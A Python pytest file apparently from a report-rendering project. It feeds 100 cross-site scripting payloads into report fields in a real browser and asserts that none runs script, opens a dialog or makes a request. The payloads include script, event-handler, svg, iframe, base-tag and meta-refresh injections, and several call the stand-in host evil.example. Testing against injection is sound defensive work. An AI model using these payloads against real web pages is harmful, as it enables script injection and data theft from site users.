"""What a server, a file or a variable may say at worst, in every field of a report, in a real browser."""

from __future__ import annotations

from itertools import cycle, product

import pytest

from tests.browser.cases import AUDIENCES
from tests.browser.fixtures import Open, html
from tests.reports.samples import permission_denied, scattered

_RUN = "window.ran=1;alert(1);fetch('https://evil.example/')"
_BREAKS = ("", '">', "'>", "</title>", "</style>", "</script>", "--></pre>", "</textarea>", "]]>", "</svg></math>")
_TAGS = (
    f"<script>{_RUN}</script>",
    f"<img src=https://evil.example/x onerror={_RUN}>",
    f"<svg onload={_RUN}><a xlink:href=javascript:{_RUN}>x</a></svg>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;' src=https://evil.example></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import'https://evil.example/y.css'</style>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f'" autofocus onfocus={_RUN} style="background:url(https://evil.example/z)" x="',
    "<!--<script>x</script><form action=https://evil.example><button autofocus>",
    f"\u2028<object data=https://evil.example/o></object><math><mtext><style><img onerror={_RUN} src=x>",
)
PAYLOADS = tuple("".join(pair) for pair in product(_BREAKS, _TAGS))


@pytest.mark.parametrize("audience", AUDIENCES)
def test_a_hundred_hostile_texts_run_open_and_ask_for_nothing(show: Open, audience: str) -> None:
    assert len(PAYLOADS) == 100
    page, watch = show("<!DOCTYPE html><title>start</title>")

    for number in range(0, len(PAYLOADS), len(_TAGS)):
        texts = cycle(PAYLOADS[number : number + len(_TAGS)])
        for diagnosis in (scattered(texts), permission_denied(next(texts))):
            page.set_content(html(diagnosis, audience, verbose=True))
            assert page.evaluate("window.ran") is None, number

    assert (watch.dialogs, watch.requests, watch.console) == ([], [], [])
